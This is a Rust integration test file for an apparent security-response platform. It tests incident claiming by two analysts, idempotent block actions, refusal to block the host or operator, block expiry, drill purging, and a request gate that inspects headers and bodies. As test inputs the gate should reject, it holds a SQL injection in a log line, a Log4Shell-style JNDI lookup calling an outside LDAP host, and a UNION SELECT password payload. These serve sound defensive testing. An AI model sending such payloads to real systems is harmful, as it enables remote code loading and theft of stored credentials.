//! Response through the real program: two analysts, repeated requests, guard rails, expiry, and a drill that leaves no
//! trace.
#![cfg(feature = "platform")]
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{Platform, command, http, http_with, wait_for};
use serde_json::{Value, json};
use std::process::Output;

fn gate(platform: &Platform, ip: &str) -> u16 {
    http(platform.address, "GET", "/v1/gate/check", &[&format!("X-Real-IP: {ip}"), "X-Original-URI: /"]).0
}

/// A token of this role.
fn token(platform: &Platform, name: &str, role: &str) -> String {
    let said = platform.ok(&["token", "create", name, "--role", role, "-q"]);
    let token = said.split_whitespace().last().unwrap().to_owned();
    // Another process made it: the platform hears of that through the file.
    let auth = format!("Authorization: Bearer {token}");
    wait_for("the token to be known", || (http(platform.address, "GET", "/v1/me", &[&auth]).0 != 401).then_some(()));
    token
}

/// Calls the API with this token.
fn post(platform: &Platform, token: &str, path: &str, headers: &[&str], body: &Value) -> (u16, Value) {
    let auth = format!("Authorization: Bearer {token}");
    let headers: Vec<&str> = [&[auth.as_str()], headers].concat();
    let (status, body) = http_with(platform.address, "POST", path, &headers, &body.to_string());
    (status, serde_json::from_str(&body).unwrap_or_else(|e| panic!("{e}: {body}")))
}

fn said(output: &Output) -> String {
    String::from_utf8(output.stderr.clone()).unwrap()
}

/// A platform with one incident.
fn with_incident() -> Platform {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("log");
    let time = chrono::Utc::now().format("%d/%b/%Y:%H:%M:%S +0000");
    let line = format!("203.0.113.9 - - [{time}] \"GET /?q=1'%20OR%201=1-- HTTP/1.1\" 200 1 \"-\" \"x\"\n");
    std::fs::write(&log, line).unwrap();
    let platform = Platform::start_in(dir, &format!("[[source]]\npath = \"{}\"\n", log.display()));
    wait_for("an incident", || (!platform.export("incidents", "").is_empty()).then_some(()));
    platform
}

#[test]
fn of_two_analysts_the_second_is_told_who_came_first() {
    let platform = with_incident();
    let (operator, ben) = (token(&platform, "operator", "analyst"), token(&platform, "ben", "analyst"));
    // Both look at the same revision.
    let revision = platform.export("incidents", "")[0]["revision"].as_u64().unwrap();
    let seen = format!("If-Match: \"{revision}\"");
    let (status, claimed) = post(&platform, &operator, "/v1/incidents/1/claim", &[&seen], &json!({}));
    assert_eq!(status, 200, "{claimed}");
    let close = json!({"verdict": "false_positive_logic", "text": "nothing"});
    let (status, problem) = post(&platform, &ben, "/v1/incidents/1/close", &[&seen], &close);
    assert_eq!(status, 409, "{problem}");
    assert!(problem["detail"].as_str().unwrap().contains("operator"), "{problem}");
    let old = revision.to_string();
    let output = platform.run(&["incident", "close", "1", "--verdict", "undetermined", "--revision", &old]);
    assert_eq!(output.status.code(), Some(7), "{}", said(&output));
    assert!(said(&output).contains("operator"), "{}", said(&output));
    let now = platform.export("incidents", "")[0].clone();
    assert_eq!((now["state"].as_str(), now["owner"].as_str()), (Some("claimed"), Some("operator")));
    let now = now["revision"].to_string();
    platform.ok(&["incident", "close", "1", "--verdict", "true_positive", "--revision", &now]);
}

#[test]
fn the_same_key_never_acts_twice() {
    let platform = Platform::start("");
    let request = json!({"kind": "block_address", "target": "203.0.113.5", "reason": "test"});
    let key = "Idempotency-Key: once";
    let (status, first) = post(&platform, &platform.token, "/v1/actions", &[key], &request);
    assert_eq!(status, 200, "{first}");
    let (status, again) = post(&platform, &platform.token, "/v1/actions", &[key], &request);
    assert_eq!((status, &again["id"]), (200, &first["id"]));
    let other = json!({"kind": "block_address", "target": "203.0.113.6", "reason": "test"});
    let (status, problem) = post(&platform, &platform.token, "/v1/actions", &[key], &other);
    assert_eq!(status, 409, "{problem}");
    let (status, problem) = post(&platform, &platform.token, "/v1/actions", &[], &other);
    assert_eq!(status, 400, "without a key: {problem}");
    assert_eq!((platform.export("actions", "").len(), gate(&platform, "203.0.113.6")), (1, 200));
    // Also after a restart.
    let platform = Platform::start_in(platform.kill(), "");
    let (status, again) = post(&platform, &platform.token, "/v1/actions", &[key], &request);
    assert_eq!((status, &again["id"]), (200, &first["id"]));
    assert_eq!(platform.export("actions", "").len(), 1);
}

#[test]
fn what_must_never_be_blocked_is_refused_with_the_reason() {
    let platform = Platform::start("");
    let mut targets: Vec<String> = [
        "127.0.0.1",
        "::1",
        "::ffff:127.0.0.1",
        "0.0.0.0/0",
        "::/0",
        "203.0.0.0/16",
        "2001:db8::/32",
        "224.0.0.1",
        "169.254.1.1",
    ]
    .map(str::to_owned)
    .to_vec();
    targets.extend(if_addrs::get_if_addrs().unwrap().iter().map(|i| i.ip().to_string()));
    let reasons = ["this host", "at most a /24", "at most a /56", "wider", "multicast", "link-local", "everything"];
    for target in &targets {
        let output = platform.run(&["block", "add", target, "--reason", "test"]);
        assert_eq!(output.status.code(), Some(5), "{target}: {}", said(&output));
        assert!(reasons.iter().any(|r| said(&output).contains(r)), "{target}: {}", said(&output));
    }
    // The operator's own way in, as the console tells it.
    let ssh = "203.0.113.200 50000 192.0.2.1 22";
    let output = command(platform.dir.path())
        .args(["block", "add", "203.0.113.200", "--reason", "test"])
        .env("SSH_CONNECTION", ssh)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(5), "{}", said(&output));
    assert!(said(&output).contains("operator"), "{}", said(&output));
    let range = platform.run(&["block", "add", "203.0.113.0/24", "--reason", "test"]);
    assert_eq!(range.status.code(), Some(5), "a range around it: {}", said(&range));
    assert_eq!((platform.export("actions", "").len(), platform.export("blocks", "").len()), (0, 0));
    assert_eq!(gate(&platform, "203.0.113.200"), 200);
}

#[test]
fn a_shipper_of_logs_is_no_operator() {
    let platform = Platform::start("");
    for (role, ip, code) in [("ingest", "203.0.113.61", 0), ("gate", "203.0.113.62", 0), ("viewer", "203.0.113.63", 5)]
    {
        let auth = format!("Authorization: Bearer {}", token(&platform, role, role));
        let client = format!("Watchfloor-Ssh-Client: {ip}");
        http(platform.address, "GET", "/v1/me", &[&auth, &client]);
        http_with(platform.address, "POST", "/v1/ingest", &[&auth, &client], "{}\n");
        let output = platform.run(&["block", "add", ip, "--reason", "test"]);
        assert_eq!(output.status.code(), Some(code), "{role}: {}", said(&output));
    }
}

#[test]
fn a_block_ends_by_itself() {
    let platform = Platform::start("");
    platform.ok(&["block", "add", "203.0.113.5", "--ttl", "10s", "--reason", "test"]);
    assert_eq!(gate(&platform, "203.0.113.5"), 403);
    let created = std::time::Instant::now();
    wait_for("the end of the block", || (gate(&platform, "203.0.113.5") == 200).then_some(()));
    assert!(created.elapsed() < std::time::Duration::from_secs(20), "{:?}", created.elapsed());
    let action = wait_for("the receipt", || {
        let action = platform.export("actions", "").remove(0);
        (action["state"] == "expired").then_some(action)
    });
    let last = action["receipts"].as_array().unwrap().last().unwrap();
    assert_eq!(last["state"], "expired", "{action}");
    assert!(platform.export("blocks", "").is_empty());
    let output = platform.run(&["block", "undo", "1"]);
    assert_eq!(output.status.code(), Some(7), "{}", said(&output));
    assert!(said(&output).contains("expired"), "{}", said(&output));
}

#[test]
fn a_purged_drill_leaves_no_trace() {
    let platform = with_incident();
    platform.ok(&["drill", "start"]);
    let drill = |list: &str| -> Vec<Value> {
        platform.export(list, "").into_iter().filter(|row| row["drill"] == true).collect()
    };
    wait_for("a block of the drill", || (!drill("blocks").is_empty()).then_some(()));
    wait_for("incidents of the drill", || (drill("incidents").len() > 1).then_some(()));
    let blocked: Vec<String> = drill("blocks").iter().map(|b| b["target"].as_str().unwrap().to_owned()).collect();
    let real = platform.export("audit", "").iter().filter(|e| e["drill"] == false && e["source"] != "gate").count();
    platform.ok(&["drill", "purge"]);
    for list in ["audit", "detections", "incidents", "actions", "blocks"] {
        assert_eq!(drill(list), Vec::<Value>::new(), "{list}");
    }
    for target in blocked.iter().filter(|t| !t.contains('/')) {
        assert_eq!(gate(&platform, target), 200, "{target}");
    }
    let source = platform.export("sources", "").into_iter().find(|s| s["name"] == "drill").unwrap();
    assert_eq!((&source["state"], &source["events"]), (&json!("stopped"), &json!(0)));
    let (_, overview) = platform.get("/v1/overview");
    let overview: Value = serde_json::from_str(&overview).unwrap();
    assert_eq!((&overview["drill"], &overview["drill_data"]), (&json!(false), &json!(false)));
    let kept = platform.export("audit", "").iter().filter(|e| e["source"] != "gate").count();
    assert_eq!(kept, real, "what is real is kept");
    assert_eq!(platform.export("incidents", "").len(), 1);
    let platform = Platform::start_in(platform.kill(), "");
    for list in ["audit", "detections", "incidents", "actions", "blocks"] {
        assert!(platform.export(list, "").iter().all(|row| row["drill"] == false), "{list} after a restart");
    }
}

#[test]
fn the_gate_looks_into_headers_and_bodies_too() {
    let platform = Platform::start("");
    let check = |ip: &str, more: &[&str], body: &str| {
        let ip = format!("X-Forwarded-For: {ip}");
        let agent = "User-Agent: shop-client/2.1";
        let headers = [&[ip.as_str(), agent, "X-Forwarded-Uri: /items", "X-Forwarded-Method: POST"], more].concat();
        http_with(platform.address, "GET", "/v1/gate/check", &headers, body).0
    };
    let long = format!("{{\"note\": \"{}\"}}", "word ".repeat(40_000));
    assert_eq!(check("198.51.100.1", &["X-Api-Version: 2", "Accept: */*"], r#"{"name": "O'Brien"}"#), 200);
    assert_eq!(check("198.51.100.1", &[], &long), 200, "what goes beyond the first 64 KiB is let pass unread");
    assert_eq!(check("198.51.100.2", &["X-Api-Version: ${jndi:ldap://203.0.113.5/a}"], ""), 403);
    assert_eq!(check("198.51.100.3", &[], r#"{"name": "' UNION SELECT password FROM users -- -"}"#), 403);
    let incidents = wait_for("both as incidents", || {
        let rows = platform.export("incidents", "");
        (rows.len() == 2).then_some(rows)
    });
    assert!(incidents.iter().all(|i| i["entity"]["kind"] == "address"), "{incidents:?}");
    let told = platform.export("detections", "src_ip:198.51.100.3");
    assert!(told.iter().any(|d| d["why"].as_str().unwrap().contains("in the body")), "{told:?}");
    assert!(
        !platform.export("audit", "src_ip:198.51.100.3")[0].to_string().contains("UNION"),
        "a body is never stored"
    );
}
